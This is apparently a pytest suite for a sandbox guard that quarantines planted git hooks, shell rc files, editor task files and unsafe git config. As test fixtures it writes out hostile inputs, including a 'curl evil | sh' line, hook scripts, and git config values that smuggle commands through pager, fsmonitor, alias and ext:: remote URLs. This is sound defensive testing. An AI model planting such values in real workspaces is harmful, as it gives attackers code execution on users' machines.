"""The protected-path guard on a real filesystem: content checks, quarantine, races, removal."""

from __future__ import annotations

import errno
import fcntl
import os
import shutil
import threading
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from corral_local_sandbox import DEFAULT_PROTECTED_PATHS, _protect
from corral_local_sandbox._gitconfig import git_config_is_safe
from corral_local_sandbox._protect import ProtectedPathChecker
from corral_posix import remove_tree_at

HAS_GIT = shutil.which("git") is not None
GIT_INIT_CONFIG = (
    b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
    b"\tlogallrefupdates = true\n"
)


def _guard(
    tmp: Path, validator: Callable[[bytes, str], bool] = git_config_is_safe
) -> tuple[ProtectedPathChecker, Path, Path]:
    root, state = tmp / "ws", tmp / "state"
    root.mkdir(exist_ok=True)
    state.mkdir(exist_ok=True)
    guard = ProtectedPathChecker(
        str(root), str(state), DEFAULT_PROTECTED_PATHS, validators={".git/config": validator}
    )
    return guard, root, state


def _command(guard: ProtectedPathChecker, action: Callable[[], object]) -> list[str]:
    """Bracket ``action`` (standing in for a sandboxed command) like ProtectedShell does."""
    before = guard.check()
    assert before.clean
    action()
    after = guard.check()
    assert after.clean
    return list(before.notes + after.notes)


def _quarantined(state: Path) -> list[str]:
    qdir = state / "protect" / "quarantine"
    return sorted(p.name.split("-", 3)[3] for p in qdir.iterdir()) if qdir.exists() else []


def _plant_hook(root: Path) -> None:
    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True, exist_ok=True)
    hook = hooks / "post-checkout"
    hook.write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    hook.chmod(0o755)


def test_absent_paths_leave_no_placeholders(tmp_path: Path) -> None:
    guard, root, _ = _guard(tmp_path)
    assert _command(guard, lambda: None) == []
    assert os.listdir(root) == []
    assert guard.try_check_fast() == _protect.CheckResult()


def test_planted_files_are_quarantined(tmp_path: Path) -> None:
    guard, root, state = _guard(tmp_path)

    def attack() -> None:
        _plant_hook(root)
        (root / ".bashrc").write_text("curl evil | sh\n")
        (root / ".vscode").mkdir()
        (root / ".vscode" / "tasks.json").write_text("{}")
        (root / ".claude").symlink_to(os.path.expanduser("~"))

    notes = _command(guard, attack)
    assert len(notes) == 4
    assert all("moved out of the workspace" in n for n in notes)
    assert sorted(os.listdir(root)) == [".git"]
    assert os.listdir(root / ".git") == []
    assert _quarantined(state) == [".bashrc", ".claude", ".git_hooks", ".vscode"]
    assert os.path.isdir(os.path.expanduser("~"))  # the symlink moved, not its target


def test_what_the_host_placed_is_judged_like_anything_else(tmp_path: Path) -> None:
    # There is no "trusted because it was there between commands" any more:
    # nothing legitimate writes protected paths but corral, whose file tools refuse them.
    guard, root, state = _guard(tmp_path)
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".bashrc").write_text("alias ll='ls -l'\n")
    assert len(guard.check().notes) == 2
    assert _quarantined(state) == [".bashrc", ".git_hooks"]
    assert guard.check().notes == ()


def test_redirecting_git_file_and_commondir_are_quarantined(tmp_path: Path) -> None:
    guard, root, state = _guard(tmp_path)
    notes = _command(guard, lambda: (root / ".git").write_text("gitdir: evil\n"))
    assert notes
    assert not (root / ".git").exists()
    (root / ".git").mkdir()
    notes = _command(guard, lambda: (root / ".git" / "commondir").write_text("../evil\n"))
    assert notes
    assert _quarantined(state) == [".git", ".git_commondir"]


def test_a_symlinked_ancestor_is_moved_never_followed(tmp_path: Path) -> None:
    """Issue 11 item 2: ``.git`` -> a host directory holding a file named ``config``."""
    host = tmp_path / "host"
    (host / "hooks").mkdir(parents=True)
    (host / "config").write_text("host's own\n")
    guard, root, state = _guard(tmp_path)
    (root / ".git").symlink_to(os.path.relpath(host, root))
    assert guard.check().notes
    assert not os.path.lexists(root / ".git")
    assert _quarantined(state) == [".git"]
    assert (host / "config").read_text() == "host's own\n"
    assert (host / "hooks").is_dir()


@pytest.mark.parametrize("mode", [0o500, 0o000])
def test_read_only_or_unsearchable_planted_directory_is_still_removed(
    tmp_path: Path, mode: int
) -> None:
    guard, root, _ = _guard(tmp_path)

    def attack() -> None:
        _plant_hook(root)
        (root / ".git" / "hooks").chmod(mode)
        (root / ".git").chmod(mode)

    try:
        assert _command(guard, attack)
        assert not (root / ".git" / "hooks").exists()
    finally:
        (root / ".git").chmod(0o700)


def test_rename_away_and_back_is_caught(tmp_path: Path) -> None:
    guard, root, _ = _guard(tmp_path)
    (root / ".git").mkdir()

    def attack() -> None:
        os.rename(root / ".git", root / "elsewhere")
        (root / "elsewhere" / "hooks").mkdir()
        (root / "elsewhere" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
        os.rename(root / "elsewhere", root / ".git")

    assert _command(guard, attack)
    assert os.listdir(root / ".git") == []


def test_a_plant_is_caught_by_another_guard_of_the_same_workspace(tmp_path: Path) -> None:
    """Issue 11 item 4: no per-process bookkeeping -- another process's guard judges it."""
    guard, root, state = _guard(tmp_path)
    assert guard.check().clean
    _plant_hook(root)  # ...during a command whose process then dies before its check
    other = ProtectedPathChecker(str(root), str(state), DEFAULT_PROTECTED_PATHS)
    assert other.try_check_fast() is None  # it has work to do: never trusted on the fast path
    assert other.check().notes
    assert not (root / ".git" / "hooks").exists()


@pytest.mark.skipif(not HAS_GIT, reason="git is not installed")
def test_git_config_from_the_sandbox_is_kept_when_harmless(tmp_path: Path) -> None:
    guard, root, state = _guard(tmp_path)
    config = root / ".git" / "config"

    def git_init() -> None:
        (root / ".git").mkdir()
        config.write_bytes(GIT_INIT_CONFIG + b"[user]\n\temail = a@b.c\n")

    assert _command(guard, git_init) == []
    assert config.exists()
    notes = _command(guard, lambda: config.write_bytes(GIT_INIT_CONFIG + b"\thooksPath = x\n"))
    assert notes
    assert not config.exists()
    assert _quarantined(state) == [".git_config"]


def test_acceptance_is_cached_by_identity_and_content(tmp_path: Path) -> None:
    calls: list[bytes] = []

    def validator(data: bytes, _scratch: str) -> bool:
        calls.append(data)
        return b"evil" not in data

    guard, root, state = _guard(tmp_path, validator)
    config = root / ".git" / "config"
    (root / ".git").mkdir()
    config.write_bytes(b"[core]\n\tbare = false\n")
    assert guard.check().notes == ()
    assert guard.check().notes == ()
    assert guard.try_check_fast() == _protect.CheckResult()  # a hit needs no thread
    other = ProtectedPathChecker(
        str(root), str(state), DEFAULT_PROTECTED_PATHS, {".git/config": validator}
    )
    assert other.check().notes == ()
    assert len(calls) == 1  # validated once, for both guards (the cache is on disk)
    # Same size, same mtime: only the content hash can tell.
    st = config.stat()
    with config.open("r+b") as fh:
        fh.write(b"[evil]")
    os.utime(config, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert guard.check().notes
    assert not config.exists()
    assert len(calls) == 2


def test_checks_are_serialised_by_a_lock_in_the_state_dir(tmp_path: Path) -> None:
    guard, root, state = _guard(tmp_path)
    assert guard.check().clean
    _plant_hook(root)
    fd = os.open(state / "protect" / "lock", os.O_RDWR)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # as another process's check would
        assert guard.try_check_fast() is None
        done = threading.Event()
        worker = threading.Thread(target=lambda: (guard.check(), done.set()))
        worker.start()
        assert not done.wait(0.2)  # a bounded wait: only asserts it has not run yet
        assert (root / ".git" / "hooks").exists()
    finally:
        os.close(fd)
    worker.join()
    assert not (root / ".git" / "hooks").exists()


def test_an_unmovable_plant_is_removed_instead(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    guard, root, _ = _guard(tmp_path)
    _plant_hook(root)
    (root / ".git" / "hooks" / "deep").mkdir()
    (root / ".git" / "hooks" / "deep" / "link").symlink_to(tmp_path)

    def no_rename(*_a: object, **_k: object) -> None:
        raise OSError(errno.EXDEV, "cross-device")

    monkeypatch.setattr(_protect.os, "rename", no_rename)
    result = guard.check()
    assert result.clean
    assert result.notes
    assert os.listdir(root / ".git") == []
    assert tmp_path.is_dir()


def test_an_unremovable_plant_leaves_the_workspace_unclean(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    guard, root, _ = _guard(tmp_path)
    (root / ".bashrc").write_text("evil\n")

    def fail(*_a: object, **_k: object) -> None:
        raise OSError(errno.EPERM, "nope")

    monkeypatch.setattr(_protect.os, "rename", fail)
    monkeypatch.setattr(_protect.os, "unlink", fail)
    assert not guard.check().clean


def test_tree_removal_is_iterative_and_needs_few_fds(tmp_path: Path) -> None:
    top = tmp_path / "top"
    top.mkdir()
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(10_000):  # far beyond the recursion limit and RLIMIT_NOFILE
            os.mkdir("d", dir_fd=fd)
            os.close(os.open("f", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
            nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        os.chmod(fd, 0o500)  # the deepest one read-only, too
    finally:
        os.close(fd)
    parent = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        remove_tree_at(parent, "top")
    finally:
        os.close(parent)
    assert not top.exists()


_TARGETS = [p.path for p in DEFAULT_PROTECTED_PATHS] + [".git", ".git/hooks/pre-commit"]


@settings(max_examples=50, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(_TARGETS), st.sampled_from(["file", "dir", "link"]))))
def test_nothing_planted_survives_a_command(
    tmp_path_factory: pytest.TempPathFactory, plants: list[tuple[str, str]]
) -> None:
    guard, root, _ = _guard(tmp_path_factory.mktemp("prop"))

    def attack() -> None:
        for rel, kind in plants:
            path = root / rel
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                if kind == "file":
                    path.write_text("evil\n")
                elif kind == "dir":
                    path.mkdir()
                else:
                    path.symlink_to("/")
            except OSError:
                continue

    _command(guard, attack)
    for entry in DEFAULT_PROTECTED_PATHS:
        parts = entry.path.split("/")
        for depth in range(1, len(parts) + 1):
            path = root.joinpath(*parts[:depth])
            if not os.path.lexists(path):
                break
            # Only plain directories may remain above a protected location.
            assert depth < len(parts), path
            assert path.is_dir(), path
            assert not path.is_symlink(), path


@pytest.mark.skipif(not HAS_GIT, reason="git is not installed")
@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (GIT_INIT_CONFIG, True),
        (GIT_INIT_CONFIG + b'[remote "origin"]\n\turl = https://example.com/r.git\n', True),
        (
            GIT_INIT_CONFIG + b'[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n',
            True,
        ),
        (b"[core]\n\tfsmonitor = /tmp/x\n", False),
        (b"[core]\n\thooksPath = /tmp\n", False),
        (b"[core]\n\tpager = sh -c evil\n", False),
        (b"[include]\n\tpath = /tmp/evil\n", False),
        (b'[filter "x"]\n\tclean = evil\n', False),
        (b"[alias]\n\tst = !evil\n", False),
        (b'[remote "o"]\n\turl = ext::sh -c evil\n', False),
        (b'[remote "o"]\n\turl = /tmp/local-repo\n', False),
        (b'[remote "o"]\n\tuploadpack = evil\n', False),
        (b"[extensions]\n\tworktreeConfig = true\n", False),
        (b"[core\n", False),
    ],
)
def test_git_config_allowlist(tmp_path: Path, text: bytes, safe: bool) -> None:
    assert git_config_is_safe(text, str(tmp_path)) is safe
    assert os.listdir(tmp_path) == []
